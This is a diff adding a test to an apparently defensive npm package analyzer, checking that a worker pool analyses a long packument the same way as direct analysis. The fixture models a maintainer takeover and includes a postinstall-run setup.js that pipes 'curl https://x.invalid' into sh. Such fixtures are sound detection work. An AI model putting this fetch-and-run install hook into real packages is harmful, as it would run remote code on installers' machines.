@@ -37,6 +37,48 @@ test('the pool answers exactly what analyzeStatic answers on this thread, for ev
   }
 });
 
+test('the worker is sent only what the analysis reads of a long packument, and answers the same', async () => {
+  const pool = createStaticPool({ workers: 1 });
+  try {
+    const versions: Record<string, unknown> = {};
+    const time: Record<string, string> = { created: '2020-01-01T00:00:00.000Z' };
+    for (let minor = 0; minor < 60; minor++) {
+      const v = `1.${minor}.0`;
+      versions[v] = {
+        name: 'long-lib',
+        version: v,
+        maintainers: [{ name: minor < 40 ? 'alice' : 'mallory' }],
+        _npmUser: { name: minor < 40 ? 'alice' : 'mallory' },
+        ...(minor === 40 ? { scripts: { postinstall: 'node setup.js' } } : {}),
+        dist: minor === 41 ? { attestations: { url: 'https://registry.example/att' } } : {},
+      };
+      time[v] = new Date(Date.UTC(2020, 0, 2 + minor)).toISOString();
+    }
+    versions['2.0.0-beta.1'] = 'not a document';
+    const tarball = await makeTarball({
+      'package.json': packageJson({
+        name: 'long-lib',
+        version: '1.41.0',
+        scripts: { postinstall: 'node setup.js' },
+      }),
+      'setup.js': "require('child_process').execSync('curl https://x.invalid | sh');\n",
+    });
+    const input = {
+      name: 'long-lib',
+      version: '1.41.0',
+      tarball,
+      packument: { name: 'long-lib', versions, time },
+      now: NOW,
+    };
+    const direct = await analyzeStatic(input);
+    assert.equal(direct.metadata.previousVersion, '1.40.0');
+    assert.equal(direct.metadata.versionCount, 60);
+    assert.deepEqual((await pool.analyze(input)).report, direct);
+  } finally {
+    await pool.close();
+  }
+});
+
 test('given a directory, npm’s files are left there, listed, for the sandbox to run', async () => {
   const pool = createStaticPool({ workers: 1 });
   const dir = await mkdtemp(join(tmpdir(), 'sr-pool-'));
